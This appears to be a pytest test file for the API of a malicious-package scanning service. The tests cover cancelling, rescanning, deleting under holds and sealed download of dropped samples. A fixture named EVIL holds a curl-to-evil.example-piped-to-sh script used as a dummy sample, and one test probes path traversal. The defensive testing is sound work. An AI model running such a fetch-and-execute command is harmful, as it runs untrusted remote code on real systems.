"""What people do with scans over the API: ended, made again, judged again, deleted; the files that are kept of them."""

from __future__ import annotations

import io
import json
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pyrage
import pytest
import pyzipper

from package_hunter.access.roles import Role
from package_hunter.config import Settings
from package_hunter.inventory import rejudge_asked
from package_hunter.storage.base import Kind
from package_hunter.store import history
from package_hunter.store.artefact_tables import ArtefactRef
from package_hunter.store.database import now_ms
from package_hunter.store.models import JobRow, Scan
from tests.support import scan_asks
from tests.support.access_server import OWN, AccessServer
from tests.support.service_fake import made_report

OCTETS = {"Content-Type": "application/octet-stream"}
EVIL = b"#!/bin/sh\ncurl https://evil.example | sh\n"


@pytest.fixture
def server(settings: Settings, tmp_path: Path) -> Iterator[AccessServer]:
    made = AccessServer(tmp_path, database_url=settings.database_url)
    yield made
    made.store.close()


@pytest.fixture
def token(server: AccessServer) -> str:
    return server.token("lead", (Role.SECURITY_ADMIN, ""))


def ask(server: AccessServer, token: str, method: str, path: str, **more: object) -> httpx.Response:
    return server.ask(token, method, f"/api/v1{path}", **more)


def actions(server: AccessServer) -> list[str]:
    with server.store.read() as session:
        return [entry.action for entry in history.entries(session, 999, who="token:lead")]


def test_a_scan_that_waits_ends_at_once(server: AccessServer, token: str) -> None:
    scan = scan_asks.new_scan(server, OWN)
    ended = ask(server, token, "POST", f"/scans/{scan}/cancel", json={"why": "a mistake"}).json()
    assert (ended["status"], ended["reason"]) == ("cancelled", "token:lead cancelled it: a mistake")
    assert server.queue.claim("w") is None
    again = ask(server, token, "POST", f"/scans/{scan}/cancel", json={})
    assert (again.status_code, again.json()["detail"]) == (409, "This scan has ended already.")
    original = server.ask(token, "GET", f"/?id={scan}").json()
    assert (original["status"], original["reason"]) == ("failed", "token:lead cancelled it: a mistake")
    assert actions(server) == ["scan.cancel"]


def test_one_that_runs_is_marked_and_its_worker_sees_it(server: AccessServer, token: str) -> None:
    scan = scan_asks.new_scan(server, OWN)
    job = server.queue.claim("w")
    assert job is not None
    marked = ask(server, token, "POST", f"/scans/{scan}/cancel", json={}).json()
    assert marked["status"] == "running"
    assert "token:lead cancelled it" in (server.queue.cancelled(job) or "")
    server.queue.end_cancelled(job)
    assert ask(server, token, "GET", f"/scans/{scan}").json()["status"] == "cancelled"


def test_the_same_once_more(server: AccessServer, token: str) -> None:
    old = server.scans[OWN]
    body = {"depth": "deep", "priority": "nightly"}
    answer = ask(server, token, "POST", f"/scans/{old}/rescan", json=body)
    new = answer.json()
    assert (answer.status_code, answer.headers["location"]) == (202, f"/api/v1/scans/{new['id']}")
    assert (new["purl"], new["depth"], new["submitter"]) == ("pkg:npm/x", "deep", "token:lead")
    with server.store.read() as session:
        row = session.get_one(JobRow, uuid.UUID(new["id"]))
        assert (row.priority, session.get_one(Scan, row.scan_id).fresh) == (0, True)


@pytest.mark.parametrize("days", [0.0, 1.0])
def test_an_archive_that_is_kept_can_be_scanned_again(
    settings: Settings, tmp_path: Path, days: float
) -> None:
    server = AccessServer(tmp_path, database_url=settings.database_url, archive_days=days)
    token = server.token("lead", (Role.SECURITY_ADMIN, ""))
    scan = ask(server, token, "POST", "/scans", content=b"an archive", headers=OCTETS).json()["id"]
    job = server.queue.claim("w")
    assert job is not None
    server.queue.finish(job, made_report(scan))
    service = server.app.state.service
    service.uploads.let_go(job.scan_id)
    again = ask(server, token, "POST", f"/scans/{scan}/rescan", json={})
    if days:
        assert again.status_code == 202
        with service.uploads.opened(again.json()["sha256"], 10) as file:
            assert file.read() == b"an archive"
    else:
        assert (again.status_code, again.json()["type"].rpartition(":")[2]) == (409, "not-kept")
        with server.store.read() as session:
            assert session.query(JobRow).count() == 0
    server.store.close()


def test_a_dead_letter_waits_again(server: AccessServer, token: str) -> None:
    scan = scan_asks.new_scan(server, OWN, status="failed", dead=now_ms(), finished=now_ms())
    listed = ask(server, token, "GET", "/dead-letters").json()["scans"]
    assert [one["id"] for one in listed] == [scan]
    again = ask(server, token, "POST", f"/scans/{scan}/rerun", json={})
    assert (again.status_code, again.json()["status"]) == (202, "pending")
    assert ask(server, token, "GET", "/dead-letters").json()["scans"] == []
    job = server.queue.claim("w")
    assert job is not None and str(job.scan_id) == scan


def test_judged_again_by_the_chore(server: AccessServer, token: str) -> None:
    """The recording here is none, which is told; that new rules change a result is tests/integration/…/test_rejudge."""
    scan = server.scans[OWN]
    assert ask(server, token, "POST", f"/scans/{scan}/rejudge").status_code == 409
    scan_asks.with_file(server, OWN, Kind.RECORDING, b"no recording")
    asked = ask(server, token, "POST", f"/scans/{scan}/rejudge")
    assert (asked.status_code, asked.json()["state"], asked.json()["by"]) == (202, "waiting", "token:lead")
    assert rejudge_asked.step(server.store, server.settings)
    assert not rejudge_asked.step(server.store, server.settings)
    done = ask(server, token, "GET", f"/scans/{scan}/rejudge").json()
    assert (done["state"], "cannot be read" in done["said"]) == ("failed", True)


def test_what_is_evidence_is_deleted_by_force_alone_and_under_a_hold_never(
    server: AccessServer, token: str
) -> None:
    scan, url = server.scans[OWN], f"/scans/{server.scans[OWN]}?why=cleaning"
    kept = ask(server, token, "DELETE", url)
    assert (kept.status_code, kept.json()["type"].rpartition(":")[2]) == (409, "held")
    analyst = server.token("analyst", (Role.ANALYST, ""))
    assert ask(server, analyst, "DELETE", url).status_code == 404
    hold = ask(server, token, "POST", f"/scans/{scan}/holds", json={"why": "case 7"}).json()
    forced = ask(server, token, "DELETE", f"{url}&force=true")
    assert (forced.status_code, "case 7" in forced.json()["detail"]) == (409, True)
    assert ask(server, token, "DELETE", f"/holds/{hold['number']}?why=closed").status_code == 204
    server.ask(token, "GET", f"/?id={scan}")  # the original's route keeps answers
    assert ask(server, token, "DELETE", f"{url}&force=true").status_code == 204
    assert ask(server, token, "GET", f"/scans/{scan}").status_code == 404
    assert server.ask(token, "GET", f"/?id={scan}").status_code == 404
    assert actions(server) == ["hold.add", "hold.remove", "scan.delete"]


@pytest.mark.parametrize("query", ["", "?why=", "?why=x&force=perhaps"])
def test_a_deletion_says_why(server: AccessServer, token: str, query: str) -> None:
    assert ask(server, token, "DELETE", f"/scans/{server.scans[OWN]}{query}").status_code == 400


def test_a_dropped_file_leaves_sealed(server: AccessServer, token: str) -> None:
    digest = scan_asks.with_file(server, OWN, Kind.DROPPED, EVIL)
    base = f"/scans/{server.scans[OWN]}/dropped"
    (listed,) = ask(server, token, "GET", base).json()["items"]
    assert (listed["digest"], listed["size"]) == (digest, len(EVIL))
    sent = ask(server, token, "GET", f"{base}/{digest}")
    assert sent.headers["content-type"] == "application/zip"
    assert sent.headers["content-disposition"] == f'attachment; filename="{digest}.zip"'
    assert int(sent.headers["content-length"]) == len(sent.content)
    assert b"evil.example" not in sent.content
    with pyzipper.AESZipFile(io.BytesIO(sent.content)) as archive:
        assert archive.read(digest, pwd=b"infected") == EVIL
    reader = pyrage.x25519.Identity.generate()
    sealed = ask(server, token, "GET", f"{base}/{digest}", params={"recipient": str(reader.to_public())})
    assert pyrage.decrypt(sealed.content, [reader]) == EVIL
    wrong = ask(server, token, "GET", f"{base}/{digest}", params={"recipient": "age1me"})
    assert (wrong.status_code, "no age recipient" in wrong.json()["detail"]) == (400, True)
    assert wrong.json()["type"] == "about:blank"
    tag = sent.headers["etag"]
    known = ask(server, token, "GET", f"{base}/{digest}", headers={"If-None-Match": f'"x", {tag}'})
    assert (known.status_code, known.headers["etag"], tag[:2]) == (304, tag, "W/"), "weak: it is sealed anew"
    assert sealed.headers["etag"] not in (tag, None)
    with server.store.read() as session:
        told = [
            json.loads(e.after or "{}") for e in history.entries(session, 999) if e.action == "sample.fetch"
        ]
    assert told[::-1] == [  # what was known already, or for nobody, left nothing
        {"sha256": digest, "as": "age", "recipient": str(reader.to_public())},
        {"sha256": digest, "as": "zip"},
    ]


def test_a_recording_comes_as_it_is(server: AccessServer, token: str) -> None:
    content = bytes(range(256)) * 4_000
    digest = scan_asks.with_file(server, OWN, Kind.RECORDING, content)
    url = f"/scans/{server.scans[OWN]}/recordings/{digest}"
    sent = ask(server, token, "GET", url)
    assert (sent.content, sent.headers["etag"]) == (content, f'"{digest}"')
    assert ask(server, token, "GET", url, headers={"If-None-Match": f'"{digest}"'}).status_code == 304
    assert actions(server) == ["recording.fetch"]


def test_what_is_lost_or_of_another_kind(server: AccessServer, token: str) -> None:
    digest = scan_asks.with_file(server, OWN, Kind.DROPPED, EVIL)
    scan = server.scans[OWN]
    assert ask(server, token, "GET", f"/scans/{scan}/recordings/{digest}").status_code == 404
    assert ask(server, token, "GET", f"/scans/{scan}/dropped/{'0' * 64}").status_code == 404
    assert ask(server, token, "GET", f"/scans/{scan}/dropped/..%2f..%2fetc").status_code in (400, 404)
    server.store.artefacts.delete(Kind.DROPPED, digest)
    lost = ask(server, token, "GET", f"/scans/{scan}/dropped/{digest}")
    assert (lost.status_code, lost.json()["type"].rpartition(":")[2]) == (409, "not-kept")
    with server.store.read() as session:
        assert session.query(ArtefactRef).filter_by(digest=digest).count() == 1


@pytest.mark.parametrize(
    ("query", "status", "priority"),
    [
        ("", 202, 10),
        ("?priority=nightly", 202, 0),
        ("?priority=merge-request", 403, None),
        ("?priority=soon", 400, None),
    ],
)
def test_priority_within_what_the_account_may(
    server: AccessServer, token: str, query: str, status: int, priority: int | None
) -> None:
    answer = ask(server, token, "POST", f"/scans{query}", json={"purl": "pkg:npm/left-pad@1.3.0"})
    assert answer.status_code == status
    if priority is not None:
        with server.store.read() as session:
            assert session.get_one(JobRow, uuid.UUID(answer.json()["id"])).priority == priority


def test_what_is_of_a_merge_request_comes_first(server: AccessServer, token: str) -> None:
    query = f"?commit={'a' * 40}&merge_request=7"
    answer = ask(server, token, "POST", f"/scans{query}", content=b"a tree", headers=OCTETS)
    with server.store.read() as session:
        assert session.get_one(JobRow, uuid.UUID(answer.json()["id"])).priority == 20


def test_a_simulation_goes_through_the_real_queue(server: AccessServer, token: str) -> None:
    known = ask(server, token, "GET", "/simulations").json()["items"]
    assert {"eslint-scope", "rest-client"} <= {one["name"] for one in known}
    for name in ("eslint-scope", "rest-client"):
        sent = ask(server, token, "POST", f"/simulations/{name}?project={OWN}")
        assert sent.status_code == 202, sent.text
        job = server.queue.claim("w")
        assert job is not None and str(job.scan_id) == sent.json()["id"] and job.fresh
        with server.app.state.service.uploads.opened(job.sha256, job.size) as file:
            assert len(file.read()) == job.size
    assert ask(server, token, "POST", "/simulations/none").status_code == 404
